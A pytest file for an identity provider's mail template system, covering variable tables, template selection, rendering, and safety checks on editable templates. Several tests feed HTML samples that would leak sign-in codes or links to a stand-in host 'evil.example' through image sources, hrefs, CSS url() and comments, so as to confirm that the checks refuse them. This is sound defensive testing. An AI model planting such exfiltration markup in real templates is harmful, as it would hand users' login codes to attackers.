"""The table of mails, the checks of templates, and which template a mail is made of."""

import ast
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import idp
from idp.cli.mail_templates import table
from idp.infra.i18n import LOCALES, locale
from idp.infra.templates import shipped_templates, templates, templates_path
from idp.mail.messages import compose
from idp.mail.templates import checks, rendering, sources
from idp.mail.templates.checks import MAX_HTML
from idp.mail.templates.kinds import COMMON, KINDS, VARIABLES, names_of
from idp.mail.templates.language import InvalidTemplateError
from idp.mail.templates.models import ALL, Override, Source
from idp.mail.templates.registry import Overrides
from tests.mail.conftest import UseSettings, use_settings
from tests.support.mails import MAILS

__all__ = ["use_settings"]
pytestmark = pytest.mark.usefixtures("use_settings", "english")

GOOD = Source(
    "{{ code }}", '<p>{{ name }}: {{ code }}</p>{{ button(link, "Go") }}', "{{ name }}: {{ code }} {{ link }}"
)


@pytest.fixture
def english() -> Iterator[None]:
    token = locale.set("en")
    yield
    locale.reset(token)
    for each in (templates, shipped_templates):
        each.cache_clear()


@pytest.fixture
def overrides(monkeypatch: pytest.MonkeyPatch) -> Overrides:
    """The templates of the console, without those of a database."""
    own = Overrides()
    monkeypatch.setattr(rendering, "overrides", own)
    monkeypatch.setattr(checks, "overrides", own)
    return own


def put(overrides: Overrides, template: str, language: str, source: Source) -> None:
    override = Override(source.subject, source.html, source.text, template, language, 1)
    overrides._by_name[template, language] = override


# The table


def test_every_mail_is_in_the_table() -> None:
    assert set(KINDS) == set(MAILS)
    assert {name for kind in KINDS.values() for name in kind.variables} == set(VARIABLES)
    for name, values in MAILS.items():
        assert set(values) == set(KINDS[name].variables)


_OPTIONS = {"language", "lifetime", "void", "name"}
#: More than the templates use.
_MORE = {"reset_password": {"upstream"}, "password_elsewhere": {"code", "link", "minutes"}}


def _mails(node: ast.expr) -> list[str]:
    if isinstance(node, ast.IfExp):
        return _mails(node.body) + _mails(node.orelse)
    return [str(node.value)] if isinstance(node, ast.Constant) else []


def test_every_mail_is_queued_with_its_variables() -> None:
    found = set()
    for path in Path(idp.__file__).parent.rglob("*.py"):
        if "outbox.queue(" not in (text := path.read_text()) or "idp.mail import outbox" not in text:
            continue
        for call in ast.walk(ast.parse(text)):
            if isinstance(call, ast.Call) and ast.unparse(call.func) == "outbox.queue" and len(call.args) == 2:
                given = {each.arg for each in call.keywords if each.arg is not None} - _OPTIONS
                for name in _mails(call.args[1]):
                    assert given - _MORE.get(name, set()) == set(KINDS[name].variables), path
                    found.add(name)
    # The others have no variables but those of every mail, `upstream` or `passkey`.
    assert all(KINDS[name].variables in ((), ("upstream",), ("passkey",)) for name in KINDS.keys() - found)
    assert len(found) >= 10


@pytest.mark.parametrize("template", KINDS)
def test_shipped_templates_use_only_the_variables_of_the_table(template: str) -> None:
    files = shipped_templates()
    for kind in ("html", "txt"):
        assert files.variables(f"mail/{template}.{kind}") <= names_of(template)


def test_the_documentation_has_the_table() -> None:
    assert table() in (Path(idp.__file__).parents[1] / "docs" / "mail.md").read_text()


# Shipped templates in the editor


@pytest.mark.parametrize("template", KINDS)
@pytest.mark.parametrize("language", [ALL, *LOCALES])
def test_the_editor_begins_with_the_shipped_mail(template: str, language: str, overrides: Overrides) -> None:
    source = sources.shipped(template, language)
    checks.check(template, language, source)
    made, shipped = checks.preview(template, language, source), checks.preview(template, language, None)
    assert made.subject == shipped.subject
    assert made.html.split() == shipped.html.split()
    assert made.text.split() == shipped.text.split()


def test_texts_of_one_language_are_in_it() -> None:
    source = sources.shipped("sign_in_code", "de")
    assert "Hallo {{ name }}" in source.html
    assert "trans" not in source.subject + source.html + source.text


# Checks


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"subject": " "}, "The subject is empty."),
        ({"html": "{{ code }}" + "x" * MAX_HTML}, "The HTML has more than"),
        ({"text": "{{ code }} {{ link }} {{ days }}"}, "text, line 1: There is no variable “days” in this mail."),
        ({"html": "<p>{{ code }}</p>"}, "The HTML does not show {{ link }}"),
        ({"text": "{{ link }} 284713"}, "The text does not show {{ code }}"),
        (
            {"html": "{% if name == 'Ada Lovelace' %}{{ code }}{{ link }}{% endif %}"},
            "The HTML does not show {{ link }}",
        ),
        ({"subject": "{% if not name %}x{% endif %}"}, "The subject of the mail is empty."),
        ({"html": "{{ code }}{{ link }}{{ code | urlencode | default(days) }}"}, "no variable “days”"),
        ({"html": "{% if minutes > name %}{% endif %}"}, "The mail cannot be made: TypeError."),
        ({"subject": "{{ _('%(x)s') }}"}, "There is no value for “x”."),
        ({"text": "{{ code }}\0"}, "null character"),
    ],
)
def test_what_a_check_finds(change: dict[str, str], reason: str, overrides: Overrides) -> None:
    values = {"subject": GOOD.subject, "html": GOOD.html, "text": GOOD.text} | change
    with pytest.raises(InvalidTemplateError) as refused:
        checks.check("sign_in_code", "de", Source(**values))
    assert reason in refused.value.description


def test_a_value_that_may_be_missing_is_checked_too(overrides: Overrides) -> None:
    checks.check(
        "reset_password", ALL, Source("x", "{% if code %}{{ code }}{% endif %}{{ link }}", "{{ code }} {{ link }}")
    )
    with pytest.raises(InvalidTemplateError, match="if code is missing: TypeError"):
        checks.check(
            "reset_password", ALL, Source("x", "{{ code }}{{ link }}{{ 'x' if code > '' }}", "{{ code }}{{ link }}")
        )


_BODY = "<p>{{ code }} {{ link }}</p>"


@pytest.mark.parametrize(
    ("html", "place"),
    [
        ('<img src="https://evil.example/{{ code }}">', "{{ code }} cannot be in the attribute src of <img>"),
        ('<img src="https://evil.example/?{{ link | urlencode | urlencode }}">', "{{ link }} cannot be in"),
        ('<img src="https://evil.example/?{{ link | urlencode | upper }}">', "{{ link }} cannot be in"),
        ('<a href="https://evil.example/{{ code }}">x</a>', "{{ code }} cannot be in the attribute href of <a>"),
        ('<a href="https://evil.example/?{{ link }}">x</a>', "{{ link }} cannot be in the attribute href of <a>"),
        ('<link href="{{ link }}">', "{{ link }} cannot be in the attribute href of <link>"),
        ('<a ping="{{ link }}">x</a>', "{{ link }} cannot be in the attribute ping of <a>"),
        ('{{ button("https://evil.example/" ~ code, "x") }}', "{{ code }} cannot be in the attribute href of <a>"),
        ('{{ button(issuer ~ "/?" ~ link, "x") }}', "{{ link }} cannot be in the attribute href of <a>"),
        ("<p style='background:url(//evil.example/{{ code }})'>x</p>", "attribute style of <p>"),
        ("<style>p { background: url(//evil.example/{{ code }}) }</style>", "cannot be in <style>"),
        ("<x a{{ code }}>", "{{ code }} cannot be in the attribute"),
        ("<!-- {{ code }} -->", "cannot be in a comment"),
        ("<!x {{ code }}>", "cannot be in a comment"),
        ("<form><textarea>{{ code }}</textarea></form>", "cannot be in <textarea>"),
        ("<img src='https://evil.example/{{ code }}", "without an end"),
        ("<style>{{ code }}", "without an end"),
    ],
)
def test_a_code_or_link_is_not_sent_to_others(html: str, place: str, overrides: Overrides) -> None:
    for whole in (f"{_BODY}{html}", f"<!doctype html>{_BODY}{html}"):
        with pytest.raises(InvalidTemplateError) as refused:
            checks.check("sign_in_code", ALL, Source("x", whole, GOOD.text))
        assert place in refused.value.description or "without an end" in refused.value.description


def test_a_link_may_be_a_target(overrides: Overrides) -> None:
    html = f'{_BODY}<a href="{{{{ link }}}}">{{{{ link }}}}</a>{{{{ button(link, "Go") }}}}'
    checks.check("sign_in_code", ALL, Source("{{ code }}", html, GOOD.text))


def test_a_template_that_waits_for_another_name_sends_nothing(overrides: Overrides) -> None:
    """It passes the check before saving, so each mail is checked."""
    html = f'{_BODY}{{% if name == "Eve" %}}<img src="//evil.example/{{{{ code }}}}">{{% endif %}}'
    source = Source("x", html, GOOD.text)
    checks.check("sign_in_code", ALL, source)
    put(overrides, "sign_in_code", ALL, source)
    message = compose("ada@example.com", "sign_in_code", name="Eve", **MAILS["sign_in_code"])
    assert "evil" not in message.as_string()
    assert message["Subject"] == "123456 is your code for idp"


def test_a_mail_with_its_frame_is_bounded(overrides: Overrides) -> None:
    with pytest.raises(InvalidTemplateError, match="longer than"):
        checks.check("welcome", ALL, Source("x", "<p>" * 13_000, "x"))


# Which template is used


def subject(language: str = "en") -> str:
    locale.set(language)
    return str(compose("ada@example.com", "sign_in_code", name="Ada", **MAILS["sign_in_code"])["Subject"])


def test_a_template_for_the_language_goes_first(overrides: Overrides) -> None:
    put(overrides, "sign_in_code", ALL, Source("all {{ code }}", GOOD.html, GOOD.text))
    put(overrides, "sign_in_code", "de", Source("de {{ code }}", GOOD.html, GOOD.text))
    assert (subject("de"), subject("fr")) == ("de 123456", "all 123456")


def test_a_mail_of_the_console_has_frame_and_footer(overrides: Overrides) -> None:
    put(overrides, "sign_in_code", ALL, GOOD)
    message = compose("ada@example.com", "sign_in_code", name="Ada & Bob", **MAILS["sign_in_code"])
    html, text = (message.get_body((kind,)).get_content() for kind in ("html", "plain"))  # type: ignore[union-attr]
    assert 'class="brand"' in html
    assert '<p style="margin:0 0 16px' in html
    assert 'bgcolor="#0f5568"' in html
    assert "Ada &amp; Bob: 123456" in html
    assert text == "Ada & Bob: 123456 https://id.example.com/x?token=abc\n\n--\nidp\nhttps://id.example.com\n"


def test_a_whole_document_gets_no_frame(overrides: Overrides) -> None:
    html = "<!doctype html><html><p>{{ code }} {{ link }}</p></html>"
    put(overrides, "sign_in_code", ALL, Source("x", html, GOOD.text))
    message = compose("ada@example.com", "sign_in_code", **MAILS["sign_in_code"])
    body: Any = message.get_body(("html",))
    assert body.get_content().startswith("<!doctype html><html><p>123456 https://id")


def test_a_template_that_fails_is_passed_over(overrides: Overrides) -> None:
    """As after an upgrade that has other variables. The mail must arrive, and the operator learn of it."""
    put(overrides, "sign_in_code", ALL, Source("{{ gone }}", GOOD.html, GOOD.text))
    assert subject() == "123456 is your code for idp"
    ((name, where, reason),) = checks.problems()
    assert (name, where) == ("sign_in_code", "of the console (all)")
    assert "gone" in reason


def test_templates_of_the_folder_are_checked_and_passed_over(
    tmp_path: Path, overrides: Overrides, use_settings: UseSettings
) -> None:
    (tmp_path / "mail").mkdir()
    for name in ("welcome.html", "welcome.txt", "sign_in_code.html"):
        (tmp_path / "mail" / name).write_text((templates_path() / "mail" / name).read_text())
    use_settings(templates_dir=tmp_path)
    templates.cache_clear()
    assert checks.problems() == []
    (tmp_path / "mail" / "welcome.txt").write_text("{{ link }}")
    (tmp_path / "mail" / "sign_in_code.html").write_text("<title>mine</title>{{ code }}")
    templates.cache_clear()
    assert [(name, where) for name, where, _ in checks.problems()] == [
        ("sign_in_code", "mail/sign_in_code"), ("welcome", "mail/welcome.txt"),
    ]  # fmt: skip
    assert subject() == "mine"
    put(overrides, "sign_in_code", ALL, GOOD)
    assert subject() == "123456"
    body: Any = compose("ada@example.com", "welcome").get_body(("plain",))
    assert "Your idp account is ready" in body.get_content()


def test_variables_have_a_meaning() -> None:
    for variable in (VARIABLES | COMMON).values():
        assert variable.meaning[0].islower()
        assert not variable.meaning.endswith(".")
